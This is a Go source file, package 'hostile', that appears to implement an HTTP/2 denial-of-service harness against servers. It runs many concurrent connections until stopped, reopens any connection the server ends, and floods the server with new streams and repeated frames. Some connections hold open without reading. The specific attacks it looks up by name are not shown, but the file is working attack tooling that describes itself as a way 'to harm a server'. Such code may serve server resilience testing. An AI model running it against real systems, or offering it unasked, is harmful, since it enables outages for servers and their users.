package hostile

import (
	"context"
	"errors"
	"fmt"
	"net"
	"slices"
	"sync"

	"golang.org/x/net/http2"
)

// A step returns errHold when it has sent everything and the attack keeps the connection
// open.
var errKeepOpen = errors.New("hold the connection")

// Attack is one way to harm a server.
type Attack struct {
	Name string
	// options are those of its connections.
	options ConnOptions
	// begin sends the beginning and returns the step that is then repeated.
	begin func(*Conn) (step func() error, err error)
}

// Target names the server and a request that it answers.
type Target struct {
	// Addr is its host:port.
	Addr string
	// Domain, Key and Value make requests that the server answers.
	Domain, Key, Value string
}

// Outcome counts what an attack sent, and how the server took it.
type Outcome struct {
	// Connections is how many were opened, Ended how many of them the server ended.
	Connections, Ended int
	// Frames is how many were sent on all of them.
	Frames int64

	Replies
}

// Find returns the attack of that name, or an error that names all.
func Find(name string, t Target) (Attack, error) {
	all := Attacks(t)
	i := slices.IndexFunc(all, func(a Attack) bool { return a.Name == name })
	if i < 0 {
		names := make([]string, 0, len(all))
		for _, a := range all {
			names = append(names, a.Name)
		}
		return Attack{}, fmt.Errorf("no attack %q: there are %q", name, names)
	}
	return all[i], nil
}

// Run attacks from this number of connections at once until ctx ends. A connection that
// the server ended begins anew. Run returns an error only if a connection is not
// accepted.
func (a Attack) Run(ctx context.Context, t Target, connections int) (Outcome, error) {
	var (
		mu    sync.Mutex
		all   Outcome
		errs  []error
		group sync.WaitGroup
	)
	all.Resets, all.Statuses = map[string]int{}, map[string]int{}
	for range connections {
		group.Go(func() {
			for ctx.Err() == nil {
				c, ended, err := a.connection(ctx, t)
				mu.Lock()
				if err != nil {
					// At the end a dial may time out a moment before ctx says so.
					if timeout, ok := errors.AsType[net.Error](err); !ok || !timeout.Timeout() {
						errs = append(errs, err)
					}
					mu.Unlock()
					return
				}
				all.Connections++
				if ended {
					all.Ended++
				}
				all.Frames += c.Sent()
				all.add(c.Replies())
				mu.Unlock()
			}
		})
	}
	group.Wait()
	return all, errors.Join(errs...)
}

// connection attacks from one connection and reports whether the server ended it.
func (a Attack) connection(ctx context.Context, t Target) (c *Conn, ended bool, err error) {
	c, err = Dial(ctx, t.Addr, a.options)
	if err != nil {
		return nil, false, err
	}
	defer func() {
		_ = c.Close() // it may have ended
		if !a.options.NeverRead {
			<-c.Ended()
		}
	}()
	defer context.AfterFunc(ctx, func() { _ = c.Close() })() // a write may hang
	step, err := a.begin(c)
	for err == nil && ctx.Err() == nil {
		err = step()
	}
	if errors.Is(err, errKeepOpen) {
		err = c.Flush()
	}
	if ctx.Err() != nil {
		return c, false, nil
	}
	switch {
	case a.options.NeverRead && err != nil:
		return c, true, nil // it does not hear why
	case a.options.NeverRead:
		<-ctx.Done()
		return c, false, nil
	}
	select {
	case <-c.Ended(): // to have the server's last frames
		return c, ctx.Err() == nil, nil
	case <-ctx.Done():
		return c, false, nil
	}
}

// repeatBytes returns a step that sends the same bytes, which hold n frames.
func (c *Conn) repeatBytes(frames int, bytes []byte) func() error {
	return func() error { return c.Send(frames, bytes) }
}

// callsOf returns a step that sends 64 new streams. add appends the frames of one.
func (c *Conn) callsOf(stream uint32, frames int, add func(b []byte, stream uint32) []byte) func() error {
	var b []byte
	return func() error {
		b = b[:0]
		for range 64 {
			b = add(b, stream)
			stream += 2
		}
		return c.Send(64*frames, b)
	}
}

// repeatFrame repeats a frame.
func repeatFrame(n int, frame []byte) []byte {
	return slices.Concat(slices.Repeat([][]byte{frame}, n)...)
}

// openStream returns what adds the beginning of a call.
func openStream(headers []byte) func(b []byte, stream uint32) []byte {
	return func(b []byte, stream uint32) []byte {
		return appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
	}
}

func appendCall(b []byte, stream uint32, headers, message []byte) []byte {
	b = appendFrame(b, http2.FrameHeaders, http2.FlagHeadersEndHeaders, stream, headers)
	return appendFrame(b, http2.FrameData, http2.FlagDataEndStream, stream, message)
}
